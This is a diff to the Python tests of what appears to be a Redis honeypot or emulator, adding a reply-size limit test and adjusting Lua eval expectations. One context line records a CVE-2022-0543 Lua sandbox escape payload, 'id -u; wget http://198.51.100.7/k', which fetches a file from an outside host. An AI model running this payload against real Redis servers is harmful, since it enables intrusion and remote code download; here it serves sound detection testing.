@@ -11,7 +11,14 @@ from eudaemon.protocols.redis import Redis
 from eudaemon.protocols.redis.attacks import LUA_COMMANDS_MAX, lua_commands, target_of
 from eudaemon.protocols.redis.commands import MODULES_MAX, VALUE_BYTES_MAX
 from eudaemon.protocols.redis.keys import KEYS_MAX
-from eudaemon.protocols.redis.resp import ARGUMENTS_MAX, BULK_BYTES_MAX, LINE_BYTES_MAX, UNREAD_BYTES_MAX, split
+from eudaemon.protocols.redis.resp import (
+    ARGUMENTS_MAX,
+    BULK_BYTES_MAX,
+    LINE_BYTES_MAX,
+    REPLY_BYTES_MAX,
+    UNREAD_BYTES_MAX,
+    split,
+)
 from eudaemon.protocols.redis.room import REQUESTS_MAX
 from eudaemon.protocols.redis.server import server_of
 from eudaemon.testing.script import Table, play, visit
@@ -226,11 +233,9 @@ def test_lua_out_of_its_box() -> None:
     assert b"\r\n0\n" in table.sent
     assert exploits(table) == [("redis-lua-sandbox", "CVE-2022-0543", "id -u; wget http://198.51.100.7/k")]
     assert ("script", "eval.lua", LUA) in [(keep.origin, keep.name, keep.data) for keep in table.kept]
-    assert table.say(b"eval 'return 1' 0\r\n") == b"$-1\r\n"
+    assert table.say(b"eval 'return 1' 0\r\n") == b":1\r\n"
     assert table.say(b"eval x y\r\n").startswith(b"-ERR value is not an integer")
     assert table.say(b"eval x 2 a\r\n").startswith(b"-ERR Number of keys")
-    assert table.say(b"script load x\r\n")[:5] == b"$40\r\n"
-    assert table.say(b"script exists a b\r\n") == b"*2\r\n:0\r\n:0\r\n"
 
 
 def test_commands_in_lua_by_every_way_of_writing_them() -> None:
@@ -288,6 +293,15 @@ def test_a_browser_is_hung_up_on() -> None:
         assert table.say(line) == b""
         assert table.over
     assert talk().say(b"GET / HTTP/1.0\r\n\r\n") == b"-ERR wrong number of arguments for 'get' command\r\n"
+
+
+def test_one_value_cannot_be_asked_for_without_end() -> None:
+    times = REPLY_BYTES_MAX // 1_000_016
+    table = talk(bytes_max=64 << 20)
+    table.say(request(b"SET", b"k", b"x" * 1_000_000))
+    assert len(table.say(request(b"MGET", *[b"k"] * times))) > times * 1_000_000
+    table.say(request(b"MGET", *[b"k"] * (times + 1)))
+    assert table.fault == f"asks for over {REPLY_BYTES_MAX} bytes at once"
 
 
 def test_limits() -> None:
